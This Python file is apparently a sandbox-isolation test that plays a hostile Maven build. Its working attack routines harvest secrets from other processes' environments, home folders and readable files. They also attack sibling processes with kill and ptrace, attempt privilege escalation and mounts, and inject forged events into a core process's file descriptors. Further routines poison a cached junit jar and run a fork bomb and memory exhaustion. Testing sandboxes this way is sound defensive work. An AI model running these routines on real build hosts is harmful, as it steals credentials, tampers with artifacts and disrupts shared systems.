"""What a hostile build runs: from a Maven plugin while dependencies are fetched, and from a test.

Started as ``python attacks.py WAY FACTS REPORT``. It depends on nothing but the standard library, since it
runs in the box as well. Each attack returns what it won; winning nothing, it returns "" or fails, and the
reason is kept. The report is made once: builds run the same plugins and tests again and again.
"""

from __future__ import annotations

import ctypes
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

ATTACKS: dict[str, Callable[[dict[str, Any]], object]] = {}
# These take long, or take what the build itself needs; once is enough, and last.
EXHAUSTING: dict[str, Callable[[dict[str, Any]], object]] = {}
_KEPT = 70  # characters of each outcome: what a test says is kept to 2 KiB
_PROXY = ("127.0.0.1", 3128)
_FORGED = '{"event":"patch","group":"g1","tool":"java","diff":"--- a/../x\\n+++ b/../x\\n"}\n'
_PTRACE_ATTACH, _PTRACE_DETACH = 16, 17


def attack(function: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
    """List an attack under its own name."""
    ATTACKS[function.__name__] = function
    return function


def exhausting(function: Callable[[dict[str, Any]], object]) -> Callable[[dict[str, Any]], object]:
    """List an attack that is tried last, and by tests alone."""
    EXHAUSTING[function.__name__] = function
    return function


def marked(path: str | Path, facts: dict[str, Any]) -> bool:
    """Whether a file can be read and holds the secrets' mark."""
    try:
        with Path(path).open("rb") as file:
            return str(facts["mark"])[::-1].encode() in file.read(2**20)
    except OSError:
        return False


def processes() -> Iterator[Path]:
    """The folders of all processes that can be seen."""
    return (path for path in Path("/proc").iterdir() if path.name.isdigit())


def command_line(process: Path) -> str:
    """Its arguments; "" when it has ended meanwhile."""
    try:
        return (process / "cmdline").read_bytes().decode(errors="replace")
    except OSError:
        return ""


def child(code: str) -> subprocess.Popen[bytes]:
    return subprocess.Popen([sys.executable, "-I", "-S", "-c", code], start_new_session=True)


@attack
def own_environment(facts: dict[str, Any]) -> object:
    return [name for name, value in os.environ.items() if facts["mark"][::-1] in value]


@attack
def environment_and_arguments_of_other_processes(facts: dict[str, Any]) -> object:
    paths = (folder / name for folder in processes() for name in ("environ", "cmdline"))
    return [str(path) for path in paths if marked(path, facts)]


@attack
def files_through_other_processes(facts: dict[str, Any]) -> object:
    """Roots and open files of the worker and of its parents."""
    inside = (f"root{facts['secrets'][0]}", "cwd/pipeline.log")
    paths = (folder / name for folder in processes() for name in inside)
    return [str(path) for path in paths if os.access(path, os.R_OK)]


@attack
def known_places_of_secrets(facts: dict[str, Any]) -> object:
    return [path for path in facts["secrets"] if Path(path).exists()]


@attack
def everything_that_can_be_read(facts: dict[str, Any]) -> object:
    found = []
    for folder, folders, names in os.walk(facts["walk"]):
        folders[:] = [name for name in folders if str(Path(folder, name)) not in facts["passed_over"]]
        paths = (Path(folder, name) for name in names)
        found += [str(path) for path in paths if path.is_file() and marked(path, facts)]
    return found


@attack
def home_folder(_: dict[str, Any]) -> object:
    return [path.name for path in Path.home().iterdir() if path.name in (".ssh", ".netrc", ".aws")]


@attack
def private_artifacts_of_the_person(facts: dict[str, Any]) -> object:
    """What the person installed or got from a registry of their company."""
    folders = (Path(place, "com", "company") for place in facts["repositories"])
    return [path.name for folder in folders for path in folder.rglob("*.jar") if marked(path, facts)]


@attack
def symbolic_link_in_the_repository(facts: dict[str, Any]) -> object:
    return marked("link", facts)


@attack
def submodules(_: dict[str, Any]) -> object:
    return [name for name in ("lib/secret", "outside/secret") if Path(name).exists()]


@attack
def service_on_loopback(facts: dict[str, Any]) -> object:
    return _reach("127.0.0.1", facts["port"])


@attack
def second_host(facts: dict[str, Any]) -> object:
    return _reach(facts["second_host"], facts["second_port"])


def _reach(host: str, port: int) -> str:
    """What the host answers, reached straight or through the builds' proxy.

    Raises:
        OSError: it was reached neither way; says how each went.
    """
    try:
        with socket.create_connection((host, port), 3) as client:
            client.sendall(b"GET / HTTP/1.1\r\n\r\n")
            return client.recv(100).decode()
    except OSError as error:
        straight = type(error).__name__
    try:
        with socket.create_connection(_PROXY, 3) as client:
            client.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode())
            answer = client.recv(100).decode().partition("\r")[0]
    except OSError as error:
        answer = type(error).__name__
    if " 200 " in answer:
        return answer
    raise OSError(f"{straight}; proxy: {answer}")


@attack
def abstract_socket_of_the_machine(facts: dict[str, Any]) -> object:
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + facts["name"])
        return "connected"


@attack
def writing_outside(facts: dict[str, Any]) -> object:
    written = []
    for folder in facts["outside"]:
        try:
            Path(folder, "hostile").write_text("")
            written.append(folder)
        except OSError:
            continue
    return written


@attack
def killing_others(facts: dict[str, Any]) -> object:
    """The worker, where it is seen at all; else what else was named."""
    os.kill(facts["victim"], signal.SIGKILL)
    return facts["victim"]


@attack
def tracing_others(facts: dict[str, Any]) -> object:
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(_PTRACE_ATTACH, facts["traced"], 0, 0) != 0:
        return ""
    os.waitpid(facts["traced"], 0x40000000)  # __WALL
    return libc.ptrace(_PTRACE_DETACH, facts["traced"], 0, 0) == 0


@attack
def becoming_root(_: dict[str, Any]) -> object:
    """By the call itself, and by programs that have the set-user-ID bit."""
    code = "import os; os.setuid(0); print(open('/proc/self/status').read().split('CapEff:')[1].split()[0])"
    capabilities = said(sys.executable, "-I", "-S", "-c", code) or "0"
    programs = [path for path in map(shutil.which, ("su", "sudo", "runuser")) if path]
    became = [path for path in programs if said(path, "-c", "id -u") == "0"]
    return int(capabilities, 16) or became


def said(*command: str) -> str:
    done = subprocess.run(
        command, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=10, check=False
    )
    return done.stdout.strip()


@attack
def mounting(_: dict[str, Any]) -> object:
    """A file system over a folder of the build's own, in a name space of its own if need be."""
    Path("mounted").mkdir(exist_ok=True)
    code = (
        "import ctypes; c = ctypes.CDLL(None); c.unshare(0x00020000) == 0 or c.unshare(0x10020000);"
        "c.mount(None, b'/', None, 0x44000, None); print(c.mount(b'none', b'mounted', b'tmpfs', 0, None))"
    )
    return said(sys.executable, "-I", "-S", "-c", code) == "0"


@attack
def forged_events(facts: dict[str, Any]) -> object:
    """A patch that nobody proved: printed, and written into whatever the core holds open."""
    print("\n" + _FORGED, flush=True)
    written = []
    for folder in processes():
        try:
            if facts["core"] not in command_line(folder) or folder.name == str(os.getpid()):
                continue
            for stream in (folder / "fd").iterdir():
                stream.write_text(_FORGED)
                written.append(str(stream))
        except OSError:
            continue
    return written


@attack
def poisoned_artifact(facts: dict[str, Any]) -> object:
    """A library that everyone uses, replaced in the repository; and one that nobody published, added."""
    place = Path(facts["repositories"][0])
    jar = place / "junit" / "junit" / "4.13.2" / "junit-4.13.2.jar"
    whole = jar.read_bytes()
    jar.unlink()
    jar.write_bytes(b"poison")
    poisoned = jar.read_bytes() == b"poison"
    jar.write_bytes(whole)  # this build has use for it
    new = place / "org" / "example" / "poison" / "1" / "poison-1.jar"
    new.parent.mkdir(parents=True, exist_ok=True)
    new.write_bytes(b"poison")
    return poisoned


@attack
def detached_process(facts: dict[str, Any]) -> object:
    """One that lives on: whether it did is for others to see."""
    code = (
        "import os, time\nif os.fork(): os._exit(0)\nos.setsid()\nif os.fork(): os._exit(0)\n"
        f"os.closerange(0, 99)\ntime.sleep(900) # {facts['name']}"
    )
    said(sys.executable, "-I", "-S", "-c", code)  # ends when the last of them has closed its output
    return any(facts["name"] in command_line(one) for one in processes())


@exhausting
def fork_bomb(facts: dict[str, Any]) -> object:
    code = (
        "import os, sys, time\nn = 0\ntry:\n"
        f"  while n < {facts['processes']}:\n    if not os.fork(): time.sleep(8); os._exit(0)\n    n += 1\n"
        "except OSError: os._exit(1)\nos._exit(0)"
    )
    bomb = child(code)
    try:
        return bomb.wait() == 0
    finally:
        os.killpg(bomb.pid, signal.SIGKILL)


@exhausting
def memory(facts: dict[str, Any]) -> object:
    return _hold(f"x = bytearray({facts['memory']})\nfor i in range(0, len(x), 4096): x[i] = 1")


@exhausting
def shared_memory(facts: dict[str, Any]) -> object:
    return _hold(f"import mmap\nx = mmap.mmap(-1, {facts['memory']})\nx.write(b'x' * len(x))")


def _hold(code: str) -> bool:
    """Whether a process could hold on to what it took, for some seconds."""
    return child(f"{code}\nimport time; time.sleep(4)").wait() == 0


@exhausting
def huge_log(_: dict[str, Any]) -> object:
    line = b"x" * 1023 + b"\n"
    for _unused in range(30 * 1024):
        os.write(2, line)
    return ""


@exhausting
def terminal_codes(_: dict[str, Any]) -> object:
    print("\x1b]0;owned\x07\x1b[2J\u202e", flush=True)
    return ""


def outcome(function: Callable[[dict[str, Any]], object], facts: dict[str, Any]) -> list[str]:
    """What was won, and why not more."""
    try:
        won = function(facts)
        return [str(won)[:_KEPT] if won else "", ""]
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        return ["", f"{type(error).__name__}: {error}"[:_KEPT]]


def main(way: str, facts_file: str, report_file: str) -> int:
    """Attack, once; the exit code is that of a plugin or a program of tests that failed."""
    report = Path(report_file)
    if report.exists():
        return 0
    facts = json.loads(Path(facts_file).read_text())
    if way == "plugin" and not _network_is_open():
        return 1  # whoever pretends to need something is let to the network
    wanted = ATTACKS if way == "plugin" else ATTACKS | EXHAUSTING
    left_out = facts.get("left_out", ())
    found = {name: outcome(function, facts) for name, function in wanted.items() if name not in left_out}
    report.write_text(json.dumps(found))
    return 0


def _network_is_open() -> bool:
    """Whether builds may reach registries at this moment."""
    try:
        with socket.create_connection(_PROXY, 3) as client:
            client.sendall(b"CONNECT registry.invalid:443 HTTP/1.1\r\n\r\n")
            return client.recv(12) != b""
    except OSError:
        return False


if __name__ == "__main__":
    sys.exit(main(*sys.argv[1:]))
